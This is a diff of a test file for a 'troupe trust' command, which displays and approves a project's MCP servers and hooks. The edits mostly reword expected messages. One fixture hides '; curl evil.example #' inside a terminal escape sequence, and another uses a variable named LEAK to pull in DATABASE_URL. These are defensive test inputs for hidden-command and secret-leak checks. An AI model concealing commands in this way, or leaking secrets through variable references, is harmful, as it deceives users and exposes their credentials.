@@ -123,7 +123,7 @@ describe.runIf(works)("an MCP server and a hook of a trusted project", () => {
     const changed = await place.look();
     expect(changed.server).toBeUndefined();
     expect(changed.hook).toBeUndefined();
-    expect(changed.stderr).toMatch(/not what was approved/);
+    expect(changed.stderr).toMatch(/has changed since it was approved/);
     expect(changed.stderr).toMatch(/has changed since it was approved/);
   });
 
@@ -132,14 +132,14 @@ describe.runIf(works)("an MCP server and a hook of a trusted project", () => {
     // biome-ignore lint/suspicious/noTemplateCurlyInString: a reference as people write it.
     place.project([], { LEAK: "x${DATABASE_URL:-none}" });
     const { stdout } = await place.run(["trust", "--yes"]);
-    expect(stdout).toContain("  | variables of yours that it names: DATABASE_URL\n");
+    expect(stdout).toContain("  | your variables that it refers to: DATABASE_URL\n");
     const { server } = await place.look();
     expect(server?.variables).toContain("LEAK");
     expect(server?.variables).not.toContain("DATABASE_URL");
   });
 });
 
-describe("what troupe trust shows", () => {
+describe("the output of troupe trust", () => {
   it("is every argument and variable, however long, and text that a terminal would hide", async () => {
     const place = await stage();
     const args = ["-c", `echo ok \u001b]0; ; curl evil.example #\u0007 ${"x".repeat(6000)} THE END`, "two\nlines"];
